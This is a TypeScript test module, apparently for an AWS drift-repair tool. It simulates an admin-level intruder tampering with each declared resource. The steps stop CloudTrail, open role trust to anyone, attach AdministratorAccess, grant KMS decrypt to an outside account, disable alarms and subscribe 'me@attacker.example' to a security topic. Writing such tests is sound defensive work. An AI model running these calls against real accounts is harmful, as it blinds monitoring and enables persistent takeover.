/** What an administrator can do to everything that is declared, so that everything about it has to be put back. */
import { fields, list, unless } from '../../../functions/responder/aws';
import type { DeclaredResource } from '../../../infra/specifications/resources';
import type { ResourceType } from '../../../infra/specifications/resources/resource';
import { LOG_ARCHIVE, OUTSIDER, SECURITY } from '../../infra/specifications/access';
import { BUCKET_TAMPERINGS } from './keepers/bucket-tamperings';
import type { World } from './world';

/** Somebody at work on one resource. */
interface Intruder {
  readonly resource: DeclaredResource;
  readonly world: World;
  /** A call in the account and the Region of the resource. */
  readonly ask: (service: string, operation: string, input: object) => Promise<Record<string, unknown>>;
}

type Ruin = (intruder: Intruder) => Promise<unknown>;

const ADMINISTRATOR = 'arn:aws:iam::aws:policy/AdministratorAccess';
const LIE = 'trailwarden:prefix';
const NOTHING = JSON.stringify({ source: ['aws.nothing'] });
const OPEN = document({ Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' });

/** By the type of the resource: each leaves something to put back, and finds the resource as declared. */
export const RUINS: Readonly<Record<ResourceType, readonly Ruin[]>> = {
  'trusted-access': [
    ({ ask, resource }) => ask('organizations', 'DisableAWSServiceAccess', { ServicePrincipal: resource.name }),
  ],
  trail: [
    async ({ ask, resource: { arn } }) => {
      await ask('cloudtrail', 'StopLogging', { Name: arn });
      await ask('cloudtrail', 'UpdateTrail', { Name: arn, EnableLogFileValidation: false });
      const EventSelectors = [{ ReadWriteType: 'ReadOnly', IncludeManagementEvents: true }];
      await ask('cloudtrail', 'PutEventSelectors', { TrailName: arn, EventSelectors });
      await ask('cloudtrail', 'RemoveTags', { ResourceId: arn, TagsList: [{ Key: LIE }] });
    },
    ({ ask, resource: { arn } }) =>
      ask('cloudtrail', 'PutInsightSelectors', {
        TrailName: arn,
        InsightSelectors: [{ InsightType: 'ApiCallRateInsight' }],
      }),
    ({ ask, resource: { arn } }) => ask('cloudtrail', 'DeleteTrail', { Name: arn }),
  ],
  bucket: [
    ...BUCKET_TAMPERINGS.map(
      ({ name, tamper }): Ruin =>
        async ({ resource, world }) =>
          name === resource.name ? await tamper(world) : undefined,
    ),
    ({ ask, resource: { name } }) => ask('s3', 'DeleteBucket', { Bucket: name }),
  ],
  key: [
    async ({ ask, resource: { name, account } }) => {
      const { KeyMetadata } = await ask('kms', 'DescribeKey', { KeyId: name });
      const { KeyId } = fields(KeyMetadata);
      await ask('kms', 'UpdateKeyDescription', { KeyId, Description: 'Not in use.' });
      await ask('kms', 'CreateGrant', {
        KeyId,
        GranteePrincipal: `arn:aws:iam::${OUTSIDER}:root`,
        Operations: ['Decrypt'],
      });
      await ask('kms', 'UntagResource', { KeyId, TagKeys: [LIE] });
      const administrators = { AWS: `arn:aws:iam::${account}:root` };
      const Policy = document({ Effect: 'Allow', Principal: administrators, Action: 'kms:*', Resource: '*' });
      await ask('kms', 'PutKeyPolicy', { KeyId, PolicyName: 'default', Policy });
      const other = fields((await ask('kms', 'CreateKey', {})).KeyMetadata).KeyId;
      await ask('kms', 'UpdateAlias', { AliasName: name, TargetKeyId: other });
      await ask('kms', 'ScheduleKeyDeletion', { KeyId });
    },
    async (intruder) => {
      await intruder.ask('kms', 'DeleteAlias', { AliasName: intruder.resource.name });
      await unnamed(intruder);
    },
  ],
  'log-group': [
    async ({ ask, resource }) => {
      const { name, arn, settings } = resource as Extract<DeclaredResource, { type: 'log-group' }>;
      const group = { logGroupName: name };
      await ask('logs', 'PutRetentionPolicy', { ...group, retentionInDays: 1 });
      await ask('logs', 'UntagResource', { resourceArn: arn, tagKeys: [LIE] });
      for (const { filterName, ...filter } of settings.metricFilters) {
        await ask('logs', 'PutMetricFilter', { ...group, ...filter, filterName: `${filterName}-again` });
        await ask('logs', 'DeleteMetricFilter', { ...group, filterName });
      }
      await unprotect({ ask, resource });
    },
    async ({ ask, resource }) => {
      const kmsKeyId = String(fields((await ask('kms', 'CreateKey', { Policy: OPEN })).KeyMetadata).Arn);
      await ask('logs', 'AssociateKmsKey', { logGroupName: resource.name, kmsKeyId });
    },
    async ({ ask, resource }) => {
      await unprotect({ ask, resource });
      await ask('logs', 'DeleteLogGroup', { logGroupName: resource.name });
    },
  ],
  'event-bus': [
    async ({ ask, resource: { name, arn } }) => {
      await ask('events', 'RemovePermission', { EventBusName: name, RemoveAllPermissions: true });
      await ask('events', 'UpdateEventBus', { Name: name, LogConfig: { Level: 'TRACE', IncludeDetail: 'FULL' } });
      await ask('events', 'UntagResource', { ResourceARN: arn, TagKeys: [LIE] });
    },
    async ({ ask, world, resource: { account, name } }) => {
      for (const rule of world.resources(account, 'event-rule'))
        if ((rule as Extract<DeclaredResource, { type: 'event-rule' }>).eventBusName === name)
          await deleteRule({ ask, resource: rule });
      await ask('events', 'DeleteArchive', { ArchiveName: name });
      await ask('events', 'DeleteEventBus', { Name: name });
    },
  ],
  'event-archive': [
    ({ ask, resource: { name } }) => ask('events', 'UpdateArchive', { ArchiveName: name, RetentionDays: 1 }),
    async ({ ask, resource: { name, account, region } }) => {
      await ask('events', 'DeleteArchive', { ArchiveName: name });
      const EventSourceArn = `arn:aws:events:${region}:${account}:event-bus/default`;
      await ask('events', 'CreateArchive', { ArchiveName: name, EventSourceArn });
    },
  ],
  'event-rule': [
    async ({ ask, resource }) => {
      const { account, region } = resource;
      const { arn, on } = ruleOf(resource);
      await ask('events', 'PutRule', { Name: on.Rule, EventBusName: on.EventBusName, EventPattern: NOTHING });
      const Targets = [{ Id: 'copy', Arn: `arn:aws:sqs:${region}:${account}:copies` }];
      await ask('events', 'PutTargets', { ...on, Targets });
      await ask('events', 'UntagResource', { ResourceARN: arn, TagKeys: [LIE] });
    },
    deleteRule,
  ],
  queue: [
    async ({ ask, resource: { name, account, region } }) => {
      const QueueUrl = `https://sqs.${region}.amazonaws.com/${account}/${name}`;
      await ask('sqs', 'SetQueueAttributes', { QueueUrl, Attributes: { MessageRetentionPeriod: '60' } });
      await ask('sqs', 'UntagQueue', { QueueUrl, TagKeys: [LIE] });
    },
    async ({ ask, world, resource: { name, account, region } }) => {
      await ask('sqs', 'DeleteQueue', { QueueUrl: `https://sqs.${region}.amazonaws.com/${account}/${name}` });
      // SQS keeps a name to itself for a minute.
      await world.pass(61);
    },
  ],
  topic: [
    async ({ ask, world, resource: { arn } }) => {
      const { Subscriptions } = await ask('sns', 'ListSubscriptionsByTopic', { TopicArn: arn });
      const address = String(fields(list(Subscriptions)[0]).Endpoint);
      const SubscriptionArn = await world.confirmSubscription(arn, address);
      const filter = { AttributeName: 'FilterPolicy', AttributeValue: '{"severity":["never"]}' };
      await ask('sns', 'SetSubscriptionAttributes', { SubscriptionArn, ...filter });
      await ask('sns', 'Subscribe', { TopicArn: arn, Protocol: 'email', Endpoint: 'me@attacker.example' });
      await world.confirmSubscription(arn, 'me@attacker.example');
      await ask('sns', 'SetTopicAttributes', { TopicArn: arn, AttributeName: 'KmsMasterKeyId', AttributeValue: '' });
      await ask('sns', 'UntagResource', { ResourceArn: arn, TagKeys: [LIE] });
    },
    ({ ask, resource: { arn } }) => ask('sns', 'DeleteTopic', { TopicArn: arn }),
  ],
  role: [
    async ({ ask, resource: { name: RoleName } }) => {
      const trust = { Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' };
      await ask('iam', 'UpdateAssumeRolePolicy', { RoleName, PolicyDocument: document(trust) });
      await ask('iam', 'PutRolePolicy', { RoleName, PolicyName: 'more', PolicyDocument: allow('*') });
      await ask('iam', 'DeleteRolePolicy', { RoleName, PolicyName: await onlyPolicy({ ask, RoleName }) });
      await ask('iam', 'AttachRolePolicy', { RoleName, PolicyArn: ADMINISTRATOR });
      await ask('iam', 'PutRolePermissionsBoundary', { RoleName, PermissionsBoundary: ADMINISTRATOR });
      await ask('iam', 'UpdateRole', { RoleName, MaxSessionDuration: 43_200 });
      await ask('iam', 'UntagRole', { RoleName, TagKeys: [LIE] });
    },
    async ({ ask, resource: { name: RoleName } }) => {
      await ask('iam', 'DeleteRolePolicy', { RoleName, PolicyName: await onlyPolicy({ ask, RoleName }) });
      await ask('iam', 'DeleteRole', { RoleName });
      const trust = { Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' };
      const AssumeRolePolicyDocument = document(trust);
      await ask('iam', 'CreateRole', { RoleName, Path: '/elsewhere/', AssumeRolePolicyDocument });
      await ask('iam', 'PutRolePolicy', { RoleName, PolicyName: 'more', PolicyDocument: allow('*') });
      await ask('iam', 'AttachRolePolicy', { RoleName, PolicyArn: ADMINISTRATOR });
    },
  ],
  function: [
    async ({ ask, resource: { name: FunctionName } }) => {
      const trust = { Effect: 'Allow', Principal: { Service: 'lambda.amazonaws.com' }, Action: 'sts:AssumeRole' };
      const harmless = { RoleName: 'harmless', AssumeRolePolicyDocument: document(trust) };
      const { Role } = await ask('iam', 'CreateRole', harmless);
      await ask('lambda', 'UpdateFunctionConfiguration', { FunctionName, Timeout: 1, Role: fields(Role).Arn });
      await ask('lambda', 'PutFunctionConcurrency', { FunctionName, ReservedConcurrentExecutions: 0 });
      await ask('lambda', 'PutFunctionEventInvokeConfig', { FunctionName, MaximumRetryAttempts: 0 });
      await ask('lambda', 'RemovePermission', { FunctionName, StatementId: 'rule-cloudtrail' });
      const more = { StatementId: 'open', Action: 'lambda:InvokeFunction', Principal: '*' };
      await ask('lambda', 'AddPermission', { FunctionName, ...more });
      await ask('lambda', 'PutFunctionRecursionConfig', { FunctionName, RecursiveLoop: 'Allow' });
      const RuntimeVersionArn = 'arn:aws:lambda:us-east-1::runtime:0a1b';
      await ask('lambda', 'PutRuntimeManagementConfig', { FunctionName, UpdateRuntimeOn: 'Manual', RuntimeVersionArn });
      const signer = 'arn:aws:signer:us-east-1:333333333333:/signing-profiles/theirs/a1B2c3';
      const { CodeSigningConfig } = await ask('lambda', 'CreateCodeSigningConfig', {
        AllowedPublishers: { SigningProfileVersionArns: [signer] },
      });
      const { CodeSigningConfigArn } = fields(CodeSigningConfig);
      await ask('lambda', 'PutFunctionCodeSigningConfig', { FunctionName, CodeSigningConfigArn });
    },
  ],
  alarm: [
    async ({ ask, resource: { name, arn } }) => {
      await ask('monitoring', 'DisableAlarmActions', { AlarmNames: [name] });
      await ask('monitoring', 'UntagResource', { ResourceARN: arn, TagKeys: [LIE] });
    },
    ({ ask, resource: { name } }) => ask('monitoring', 'DeleteAlarms', { AlarmNames: [name] }),
  ],
};

type Place = Pick<Intruder, 'ask' | 'resource'>;

function document(statement: object): string {
  return JSON.stringify({ Version: '2012-10-17', Statement: [statement] });
}

function allow(Action: string): string {
  return document({ Effect: 'Allow', Action, Resource: '*' });
}

/** Nothing names the key any more, so that its description is all that is left. */
async function unnamed({ world, resource: { account } }: Intruder): Promise<void> {
  if (account === SECURITY)
    for (const { arn } of world.resources(account, 'topic')) {
      const key = { AttributeName: 'KmsMasterKeyId', AttributeValue: '' };
      await world.as(account, 'sns', 'SetTopicAttributes', { TopicArn: arn, ...key });
    }
  if (account !== LOG_ARCHIVE) return;
  for (const { name } of world.resources(account, 'bucket'))
    await world.as(account, 's3', 'DeleteBucketEncryption', { Bucket: name });
  for (const trail of world.resources('111111111111', 'trail'))
    await world.as(trail.account, 'cloudtrail', 'UpdateTrail', { Name: trail.arn, KmsKeyId: '' });
}

async function unprotect({ ask, resource }: Place): Promise<void> {
  await ask('logs', 'PutLogGroupDeletionProtection', {
    logGroupIdentifier: resource.name,
    deletionProtectionEnabled: false,
  });
}

function ruleOf(resource: DeclaredResource) {
  const { name, arn, eventBusName, settings } = resource as Extract<DeclaredResource, { type: 'event-rule' }>;
  return { arn, settings, on: { Rule: name, EventBusName: eventBusName } };
}

async function deleteRule({ ask, resource }: Place): Promise<void> {
  const { on, settings } = ruleOf(resource);
  await ask('events', 'RemoveTargets', { ...on, Ids: settings.Targets.map(({ Id }) => Id) });
  await ask('events', 'DeleteRule', { Name: on.Rule, EventBusName: on.EventBusName });
}

/** The one inline policy that is not the intruder's. */
async function onlyPolicy({ ask, RoleName }: Pick<Intruder, 'ask'> & { RoleName: string }): Promise<unknown> {
  const found = await unless(['NoSuchEntityException'], ask('iam', 'ListRolePolicies', { RoleName }));
  return list(found?.PolicyNames).find((name) => name !== 'more');
}
